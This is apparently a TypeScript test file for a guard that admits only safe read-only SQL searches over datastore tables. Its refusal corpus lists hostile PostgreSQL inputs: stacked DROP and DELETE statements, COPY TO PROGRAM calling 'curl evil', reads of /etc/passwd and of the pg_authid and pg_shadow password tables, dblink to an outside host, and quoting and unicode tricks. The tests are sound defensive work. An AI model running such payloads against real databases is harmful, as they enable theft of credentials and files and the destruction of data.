import { beforeAll, describe, expect, it } from 'vitest';
import { AppError } from '../../../platform/errors.ts';
import { guardSearchSql, loadSqlParser } from './search-sql.guard.ts';

beforeAll(() => loadSqlParser());

const A = '3f0c1b2a-0000-4000-8000-00000000000a';
const B = '3f0c1b2a-0000-4000-8000-00000000000b';
const HIDDEN = '3f0c1b2a-0000-4000-8000-0000000000ff';

// A may be read whole, B only through its masking view, HIDDEN not at all.
const resolve = (name: string) =>
  name === A ? `datastore."${name}"` : name === B ? `datastore_masked."${name}"` : undefined;

function refusal(text: string, maxLength?: number): AppError {
  try {
    guardSearchSql(text, resolve, { maxLength });
  } catch (err) {
    if (err instanceof AppError) return err;
    throw err;
  }
  throw new Error(`accepted: ${text.slice(0, 200)}`);
}

describe('guardSearchSql refuses', () => {
  const corpus: [string, string, string][] = [
    // [what, sql, expected details.reason]
    ['stacked DROP', `SELECT * FROM "${A}"; DROP TABLE "${A}"`, 'multiple_statements'],
    ['stacked query after a line comment', `SELECT 1 --\n; DELETE FROM "${A}"`, 'multiple_statements'],
    [
      'a second statement after a block comment',
      `SELECT /* x */ 1; /* */ UPDATE "${A}" SET a = 1`,
      'multiple_statements',
    ],
    ['INSERT', `INSERT INTO "${A}" VALUES (1)`, 'not_select'],
    ['UPDATE', `UPDATE "${A}" SET a = 1`, 'not_select'],
    ['DELETE', `DELETE FROM "${A}"`, 'not_select'],
    ['MERGE', `MERGE INTO "${A}" t USING "${B}" s ON t.a = s.a WHEN MATCHED THEN DELETE`, 'not_select'],
    ['DDL', `DROP TABLE "${A}"`, 'not_select'],
    ['CREATE TABLE AS', `CREATE TABLE x AS SELECT * FROM "${A}"`, 'not_select'],
    ['COPY TO PROGRAM', `COPY "${A}" TO PROGRAM 'curl evil'`, 'not_select'],
    ['COPY of a query', `COPY (SELECT 1) TO '/tmp/x'`, 'not_select'],
    ['SET', 'SET statement_timeout = 0', 'not_select'],
    ['RESET', 'RESET ALL', 'not_select'],
    ['DO block', `DO $$ BEGIN PERFORM pg_sleep(10); END $$`, 'not_select'],
    ['transaction control', 'COMMIT', 'not_select'],
    ['LOCK', `LOCK TABLE "${A}"`, 'not_select'],
    ['LISTEN', 'LISTEN x', 'not_select'],
    ['NOTIFY', `NOTIFY x, 'y'`, 'not_select'],
    ['EXPLAIN ANALYZE', `EXPLAIN ANALYZE SELECT * FROM "${A}"`, 'not_select'],
    ['PREPARE', `PREPARE p AS SELECT * FROM "${A}"`, 'not_select'],
    [
      'data-modifying CTE',
      `WITH x AS (DELETE FROM "${A}" RETURNING *) SELECT * FROM x`,
      'data_modifying_cte',
    ],
    ['SELECT INTO', `SELECT * INTO stolen FROM "${A}"`, 'select_into'],
    [
      'SELECT INTO in a UNION branch',
      `SELECT a INTO t FROM "${A}" UNION SELECT a FROM "${B}"`,
      'select_into',
    ],
    ['FOR UPDATE', `SELECT * FROM "${A}" FOR UPDATE`, 'locking'],
    ['FOR SHARE in a subquery', `SELECT * FROM (SELECT * FROM "${A}" FOR SHARE) s`, 'locking'],
    [
      'WITH RECURSIVE',
      'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r',
      'recursive_cte',
    ],
    ['pg_sleep', 'SELECT pg_sleep(10)', 'function'],
    ['qualified pg_sleep', 'SELECT pg_catalog.pg_sleep(10)', 'function'],
    ['pg_read_file', `SELECT pg_read_file('/etc/passwd')`, 'function'],
    ['pg_ls_dir', `SELECT * FROM pg_ls_dir('.')`, 'function'],
    ['lo_import', `SELECT lo_import('/etc/passwd')`, 'function'],
    ['dblink', `SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)`, 'function'],
    ['set_config', `SELECT set_config('statement_timeout', '0', false)`, 'function'],
    ['current_setting', `SELECT current_setting('data_directory')`, 'function'],
    ['txid_current', 'SELECT txid_current()', 'function'],
    ['nextval', `SELECT nextval('s')`, 'function'],
    ['query_to_xml', `SELECT query_to_xml('select * from pg_authid', true, true, '')`, 'function'],
    ['repeat as a memory bomb', `SELECT repeat('x', 1000000000)`, 'function'],
    ['a function hidden in a WHERE', `SELECT * FROM "${A}" WHERE pg_sleep(1) IS NULL`, 'function'],
    ['a function hidden in ORDER BY', `SELECT * FROM "${A}" ORDER BY pg_backend_pid()`, 'function'],
    ['user-schema function', 'SELECT public.evil()', 'function'],
    ['attribute-notation call', `SELECT t.pg_column_size FROM "${A}" t`, 'function'],
    ['CURRENT_USER', 'SELECT CURRENT_USER', 'function'],
    ['session_user', 'SELECT session_user', 'function'],
    ['TABLESAMPLE by another method', `SELECT * FROM "${A}" TABLESAMPLE system_rows(10)`, 'function'],
    ['pg_catalog.pg_authid', 'SELECT * FROM pg_catalog.pg_authid', 'qualified_table'],
    ['information_schema', 'SELECT * FROM information_schema.tables', 'qualified_table'],
    ['datastore schema directly', `SELECT * FROM datastore."${A}"`, 'qualified_table'],
    ['unmasked table of a masked resource', `SELECT * FROM datastore."${B}"`, 'qualified_table'],
    ['catalog-qualified name', `SELECT * FROM civitas.datastore."${A}"`, 'qualified_table'],
    ['bare catalog table', 'SELECT * FROM pg_authid', 'table'],
    ['pg_shadow in a subquery', `SELECT (SELECT passwd FROM pg_shadow LIMIT 1) FROM "${A}"`, 'table'],
    ['unknown table', 'SELECT * FROM "no-such-resource"', 'table'],
    ['a table the resolver refuses', `SELECT * FROM "${HIDDEN}"`, 'table'],
    [
      'a refused table joined to a permitted one',
      `SELECT * FROM "${A}" JOIN "${HIDDEN}" USING (_id)`,
      'table',
    ],
    ['a refused table in EXISTS', `SELECT 1 WHERE EXISTS (SELECT 1 FROM "${HIDDEN}")`, 'table'],
    ['doubled-quote identifier trick', `SELECT * FROM "${A}""; DROP TABLE x; --"`, 'table'],
    ['quoted catalog name', 'SELECT * FROM "pg_authid"', 'table'],
    ['unicode-escaped catalog name', String.raw`SELECT * FROM U&"\0070g_authid"`, 'table'],
    [
      'CTE defined after its use resolves to the catalog',
      'WITH x AS (SELECT * FROM pg_authid), pg_authid AS (SELECT 1) SELECT * FROM x',
      'table',
    ],
    ['CTE name used outside its WITH', `SELECT * FROM (WITH c AS (SELECT 1) SELECT * FROM c) s, c`, 'table'],
    ['::regclass', `SELECT 'pg_authid'::regclass`, 'type'],
    ['regclass via CAST', `SELECT CAST('pg_authid' AS regclass)`, 'type'],
    ['regproc', `SELECT 'pg_sleep'::regproc`, 'type'],
    ['regnamespace', `SELECT 'pg_catalog'::pg_catalog.regnamespace`, 'type'],
    ['oid', 'SELECT 1259::oid', 'type'],
    ['typed literal of a reg type', `SELECT regclass 'pg_authid'`, 'type'],
    ['schema-qualified type', `SELECT 'x'::public.t`, 'type'],
    ['qualified operator', 'SELECT 1 OPERATOR(public.+) 1', 'operator'],
    ['parameter placeholder', 'SELECT $1', 'node'],
    ['XML functions', `SELECT xmlparse(document '<a/>')`, 'node'],
    ['a column definition list', `SELECT * FROM json_to_record('{}') AS x(a int)`, 'function'],
  ];

  it.each(corpus)('%s', (_what, text, reason) => {
    const err = refusal(text);
    expect(err.code, err.message).toBe('datastore.sql_not_allowed');
    expect(err.status).toBe(403);
    expect(err.details?.reason, err.message).toBe(reason);
  });

  it('names the refused table in the message and details', () => {
    const err = refusal(`SELECT * FROM "${A}" JOIN "${HIDDEN}" USING (_id)`);
    expect(err.message).toContain(HIDDEN);
    expect(err.details?.table).toBe(HIDDEN);
  });

  it.each([
    ['syntax error', 'SELEC 1', 'syntax'],
    ['unterminated dollar quote', 'SELECT $$abc', 'syntax'],
    ['a comment swallowing the rest', 'SELECT 1 /* never closed', 'syntax'],
    ['empty text', '   ', 'empty'],
    ['only a comment', '-- nothing', 'empty'],
  ])('answers %s as a validation error', (_what, text, reason) => {
    const err = refusal(text);
    expect(err.code).toBe('datastore.sql_invalid');
    expect(err.status).toBe(409);
    expect(err.details?.reason).toBe(reason);
  });

  it('refuses huge input before parsing it', () => {
    const err = refusal(`SELECT '${'x'.repeat(100_000)}'`);
    expect(err.details?.reason).toBe('too_long');
    expect(refusal(`SELECT * FROM "${A}" WHERE a = 1`, 20).details?.reason).toBe('too_long');
  });

  it('refuses nesting deep enough to exhaust the checker', () => {
    const err = refusal(`SELECT ${'1 + ('.repeat(3000)}1${')'.repeat(3000)}`);
    expect(['too_complex', 'syntax']).toContain(err.details?.reason);
  });
});

describe('guardSearchSql accepts CKAN-style queries', () => {
  const shapes: string[] = [
    `SELECT "城市", count(*) FROM "${A}" WHERE "年份" > 2020 GROUP BY 1`,
    `SELECT * FROM "${A}"`,
    `SELECT * FROM "${A}" ORDER BY "_id" DESC LIMIT 10 OFFSET 20`,
    `SELECT "${A}"."名称" FROM "${A}" WHERE "${A}"._id < 10`,
    `SELECT t.a, m.b FROM "${A}" t JOIN "${B}" m ON t.k = m.k LEFT JOIN "${A}" u USING (k)`,
    `SELECT * FROM "${A}" UNION ALL SELECT * FROM "${B}" EXCEPT SELECT * FROM "${A}" INTERSECT SELECT * FROM "${B}"`,
    `WITH c AS (SELECT * FROM "${A}"), d AS (SELECT * FROM c WHERE a > 1) SELECT * FROM d JOIN "${B}" USING (a)`,
    `SELECT * FROM (SELECT a, sum(b) AS s FROM "${A}" GROUP BY a) x WHERE s > 10`,
    `SELECT a FROM "${A}" WHERE a IN (SELECT a FROM "${B}") AND EXISTS (SELECT 1 FROM "${A}" z WHERE z.q = "${A}".q)`,
    `SELECT a, b, row_number() OVER (PARTITION BY a ORDER BY b), lag(b) OVER w, rank() OVER w FROM "${A}" WINDOW w AS (ORDER BY b ROWS BETWEEN 1 PRECEDING AND CURRENT ROW)`,
    `SELECT a, avg(b), stddev(b), string_agg(c, ',' ORDER BY c), count(DISTINCT c), count(*) FILTER (WHERE b > 1) FROM "${A}" GROUP BY a HAVING count(*) > 1`,
    `SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY b), mode() WITHIN GROUP (ORDER BY c) FROM "${A}"`,
    `SELECT a, sum(b) FROM "${A}" GROUP BY ROLLUP (a), CUBE (b), GROUPING SETS ((a), ())`,
    `SELECT DISTINCT ON (a) a, b FROM ONLY "${A}" ORDER BY a, b DESC NULLS LAST FETCH FIRST 3 ROWS ONLY`,
    `SELECT extract(year FROM d), date_trunc('month', d), to_char(d, 'YYYY-MM'), d AT TIME ZONE 'Asia/Shanghai', now() - interval '1 day', CURRENT_DATE FROM "${A}"`,
    `SELECT substring(c FROM 1 FOR 2), trim(both ' ' FROM c), position('a' IN c), lower(c) LIKE 'a!%' ESCAPE '!', c SIMILAR TO 'a%', c ~* '^x' FROM "${A}"`,
    `SELECT CAST(a AS numeric(10, 2)), a::int8, a::text[], date '2020-01-01', coalesce(a, 0), nullif(a, 0), greatest(a, b), CASE WHEN a > 0 THEN 'p' ELSE 'n' END FROM "${A}"`,
    `SELECT a = ANY (ARRAY[1, 2]), a BETWEEN 1 AND 2, a IS DISTINCT FROM b, c IS NOT NULL, (a, b) OVERLAPS (c, d), ROW(a, b) FROM "${A}"`,
    `SELECT jsonb_build_object('a', a) ->> 'a', to_json(t), j #> '{x}' FROM "${A}" t`,
    `SELECT * FROM "${A}" TABLESAMPLE bernoulli (10)`,
    `SELECT n FROM generate_series(1, 3) WITH ORDINALITY AS g(n, i), LATERAL (SELECT * FROM "${A}" WHERE "${A}".n = g.n) s`,
    `SELECT $$dollar 'quoted' text$$, $tag$also; DROP TABLE x$tag$, 'it''s', E'\\n' FROM "${A}"`,
    `SELECT "a""b", U&"\\0061" FROM "${A}"`,
    `SELECT 1 -- a trailing comment\nFROM "${A}" /* and a block comment */`,
    'VALUES (1, 2), (3, 4)',
    'SELECT 1',
  ];

  it.each(shapes)('%s', (text) => {
    const guarded = guardSearchSql(text, resolve);
    // The rewritten text parses again and now names qualified relations only, which users may not write.
    if (guarded.tables.length > 0) expect(refusal(guarded.sql).details?.reason).toBe('qualified_table');
    else expect(guardSearchSql(guarded.sql, resolve).sql).toBe(guarded.sql);
  });

  it('qualifies each table through the resolver and keeps the written name usable', () => {
    const guarded = guardSearchSql(`SELECT "${A}".a, m.b FROM "${A}" JOIN "${B}" m USING (k)`, resolve);
    expect(guarded.sql).toBe(
      `SELECT "${A}".a, m.b FROM datastore."${A}" AS "${A}" JOIN datastore_masked."${B}" AS m USING (k)`,
    );
    expect(guarded.tables).toEqual([A, B]);
  });

  it('leaves CTE names alone and lists only resources', () => {
    const guarded = guardSearchSql(`WITH c AS (SELECT * FROM "${A}") SELECT * FROM c`, resolve);
    expect(guarded.sql).toBe(`WITH c AS (SELECT * FROM datastore."${A}" AS "${A}") SELECT * FROM c`);
    expect(guarded.tables).toEqual([A]);
  });

  it('does not let text hide inside literals: a quoted statement stays a string', () => {
    const guarded = guardSearchSql(`SELECT 'x; DROP TABLE y' AS s FROM "${A}"`, resolve);
    expect(guarded.sql).toBe(`SELECT 'x; DROP TABLE y' AS s FROM datastore."${A}" AS "${A}"`);
  });

  it('treats a resolver answer that is not one qualified relation as a programming error', () => {
    expect(() => guardSearchSql(`SELECT * FROM "${A}"`, () => `"${A}"`)).toThrow(/schema-qualified/);
    expect(() => guardSearchSql(`SELECT * FROM "${A}"`, () => 'datastore.a, datastore.b')).toThrow(
      /schema-qualified/,
    );
  });
});
